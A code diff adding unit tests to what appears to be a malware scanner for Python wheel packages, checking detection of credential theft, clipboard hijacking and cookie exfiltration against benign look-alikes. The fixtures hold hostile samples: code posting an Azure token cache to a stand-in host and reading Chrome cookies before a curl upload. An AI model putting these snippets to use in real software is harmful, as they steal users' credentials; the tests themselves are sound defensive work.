@@ -633,6 +633,54 @@ class ContentRuleTest {
     }
 
     @Test
+    void aPathJoinedFromPartsIsReadAsTheWholePath() {
+      String parts =
+          "import os, requests\n"
+              + "cache = os.path.join(HOME, \".azure\", \"msal_token_cache.json\")\n"
+              + "requests.post(\"https://sync.example/k\", data=open(cache).read())\n";
+      String slashes =
+          parts.replace(
+              "os.path.join(HOME, \".azure\", \"msal_token_cache.json\")",
+              "Path.home() / \".azure\" / \"msal_token_cache.json\"");
+      String words = parts.replace("os.path.join(", "print(");
+
+      assertThat(check(wheelWith("pkg/sync.py", parts)))
+          .extracting(f -> f.evidence().values().get("pattern"))
+          .containsExactly("credentials-sent");
+      assertThat(check(wheelWith("pkg/sync.py", slashes)))
+          .extracting(f -> f.evidence().values().get("pattern"))
+          .containsExactly("credentials-sent");
+      assertThat(check(wheelWith("pkg/sync.py", words))).isEmpty();
+    }
+
+    @Test
+    void anEditorsPasteAndCopyAreNotHijackingWithoutAWalletAddress() {
+      String editor =
+          "def on_key(buffer):\n"
+              + "    text = buffer.paste()\n"
+              + "    buffer.copy(text.upper())\n";
+      String hijack = editor + "BTC = re.compile(r\"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$\")\n";
+
+      assertThat(check(wheelWith("pkg/editor.py", editor))).isEmpty();
+      assertThat(check(wheelWith("pkg/editor.py", hijack)))
+          .extracting(f -> f.evidence().values().get("pattern"))
+          .containsExactly("clipboard-hijack");
+    }
+
+    @Test
+    void uploadingWithCurlIsASendOnlyBesideSomethingStolen() {
+      String release =
+          "import subprocess\n"
+              + "subprocess.run([\"curl\", \"-F\", \"file=@dist.tar.gz\", URL], check=True)\n";
+      String cookies = "import browser_cookie3\n" + "jar = browser_cookie3.chrome()\n" + release;
+
+      assertThat(check(wheelWith("pkg/release.py", release))).isEmpty();
+      assertThat(check(wheelWith("pkg/release.py", cookies)))
+          .extracting(f -> f.evidence().values().get("pattern"))
+          .containsExactly("reads-and-posts");
+    }
+
+    @Test
     void onlyATopLevelSitecustomizeRunsAtStartUp() {
       String hook = "import os\n";
 
